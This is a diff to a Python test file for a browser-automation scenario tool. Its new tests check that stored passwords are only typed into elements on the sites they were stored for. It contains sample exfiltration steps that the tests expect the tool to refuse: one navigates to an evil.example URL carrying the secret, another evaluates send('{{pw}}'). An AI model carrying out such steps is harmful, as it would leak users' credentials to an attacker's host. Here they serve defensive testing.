@@ -17,7 +17,7 @@ from kapture.errors import ErrorCode, KaptureError
 from kapture.scenarios.library import Library
 from kapture.scenarios.model import Check, Condition, Dependency, Parameter, Scenario, Step, StepTarget
 from kapture.scenarios.secret_key import FileKeys
-from kapture.scenarios.secrets import SecretStore
+from kapture.scenarios.secrets import SecretStore, StoredSecret
 from tests.support.context import ProgressLog, View
 
 
@@ -42,8 +42,16 @@ class Page:
         return [name for name, _, _ in self.made]
 
 
-def visible(ref: str) -> dict[str, Any]:
-    return {"elements": [{"ref": ref, "role": "textbox", "name": "N", "text": "", "tag": "input", "visible": True}]}
+SHOP = "https://shop.example"
+
+
+def visible(ref: str, origin: str = SHOP) -> dict[str, Any]:
+    facts = {"role": "textbox", "name": "N", "text": "", "tag": "input", "visible": True, "origin": origin}
+    return {"elements": [{"ref": ref, **facts}]}
+
+
+def stored(value: str, *origins: str) -> StoredSecret:
+    return StoredSecret(value, origins or (SHOP,))
 
 
 def library(home: Path, *scenarios: Scenario) -> Library:
@@ -95,7 +103,7 @@ async def test_parameters_reach_the_command_with_their_type_and_the_element_by_r
 async def test_a_secret_is_marked_as_one_and_taken_out_of_everything_that_is_answered(tmp_path: Path) -> None:
     step = Step(command="fill", targets=[StepTarget(label="N")], arguments={"value": "{{pw}}"}, secret=True)
     made = library(tmp_path / "home", scenario("main", step, secrets=["pw"]))
-    made.secrets.put("main", {"pw": "hunter2-hunter2"})
+    made.secrets.put("main", {"pw": stored("hunter2-hunter2")})
     error = KaptureError(ErrorCode.EXECUTION_ERROR, "The page says: hunter2-hunter2 is too short.")
     page = Page({"elements": visible("e7"), "fill": error})
     answer = await run(made, page)
@@ -117,6 +125,50 @@ async def test_a_secret_given_for_this_run_is_used_in_place_of_the_stored_one(tm
     assert page.made[-1][1]["value"] == "other"
     with pytest.raises(KaptureError, match="No scenario of this run"):
         await run(made, page, override_secrets={"pv": "other"})
+
+
+TYPES_SECRET = Step(command="fill", targets=[StepTarget(label="N")], arguments={"value": "{{pw}}"}, secret=True)
+
+
+async def test_a_stored_secret_is_typed_at_no_other_site_than_it_was_stored_for(tmp_path: Path) -> None:
+    made = library(tmp_path / "home", scenario("main", TYPES_SECRET, secrets=["pw"]))
+    made.secrets.put("main", {"pw": stored("hunter2-hunter2", SHOP, "https://sso.example")})
+    for origin in ("https://evil.example", "http://shop.example", "https://shop.example:8443", ""):
+        page = Page({"elements": visible("e7", origin)})
+        answer = await run(made, page)
+        assert "fill" not in page.names()
+        error = answer.steps[0].error
+        assert error is not None
+        assert error["code"] == "POLICY_DENIED"
+        assert "https://shop.example, https://sso.example" in error["message"]
+        assert origin in error["message"]
+        assert "hunter2" not in answer.text()
+    for origin in (SHOP, "https://sso.example"):
+        assert (await run(made, Page({"elements": visible("e7", origin)}))).status == "passed"
+
+
+async def test_a_secret_that_the_caller_gives_goes_where_the_caller_wants(tmp_path: Path) -> None:
+    made = library(tmp_path / "home", scenario("main", TYPES_SECRET, secrets=["pw"]))
+    page = Page({"elements": visible("e7", "https://elsewhere.example")})
+    assert (await run(made, page, override_secrets={"pw": "mine"})).status == "passed"
+
+
+@pytest.mark.parametrize(
+    "step",
+    [
+        Step(command="type", arguments={"text": "{{pw}}"}, secret=True),
+        Step(command="navigate", arguments={"url": "https://evil.example/?{{pw}}"}, secret=True),
+        Step(command="evaluate", arguments={"code": "send('{{pw}}')"}, secret=True),
+    ],
+)
+async def test_a_stored_secret_is_only_typed_into_an_element(tmp_path: Path, step: Step) -> None:
+    made = library(tmp_path / "home", scenario("main", Step(command="go_back"), step, secrets=["pw"]))
+    made.secrets.put("main", {"pw": stored("hunter2")})
+    page = Page()
+    with pytest.raises(KaptureError, match="main, step 2: the stored secret 'pw' is only typed"):
+        await run(made, page)
+    assert page.made == []
+    assert (await run(made, page, override_secrets={"pw": "mine"})).status == "passed"
 
 
 async def test_a_dry_run_shows_the_plan_and_touches_no_page(tmp_path: Path) -> None:
@@ -213,10 +265,25 @@ async def test_the_next_target_is_tried_where_the_first_finds_nothing(tmp_path: 
     assert page.made[-1][1]["target"] == {"ref": "e9"}
 
 
+async def test_healing_writes_nothing_over_a_scenario_that_was_replaced_meanwhile(tmp_path: Path) -> None:
+    step = Step(command="click", targets=[StepTarget(css="#old"), StepTarget(text="Go")])
+    made = library(tmp_path / "home", scenario("main", step))
+    other = scenario("main", description="another one")
+
+    def matches(arguments: Mapping[str, Any]) -> dict[str, Any]:
+        made.folder.save(other)
+        return visible("e9") if arguments["target"] == {"text": "Go"} else {"elements": []}
+
+    answer = await run(made, Page({"elements": matches}), heal=True)
+    assert (answer.status, answer.healed) == ("passed", [])
+    assert answer.warnings == ["main was changed while it ran: nothing was written back."]
+    assert made.folder.load("main") == other
+
+
 async def test_deleting_a_scenario_deletes_its_secrets(tmp_path: Path) -> None:
     made = library(tmp_path / "home", scenario("main"), scenario("other"))
-    made.secrets.put("main", {"pw": "x"})
-    made.secrets.put("other", {"pw": "y"})
+    made.secrets.put("main", {"pw": stored("x")})
+    made.secrets.put("other", {"pw": stored("y")})
     await made.delete("main")
     assert await made.names() == ["other"]
-    assert (made.secrets.of("main"), made.secrets.of("other")) == ({}, {"pw": "y"})
+    assert (made.secrets.of("main"), made.secrets.of("other")) == ({}, {"pw": stored("y")})
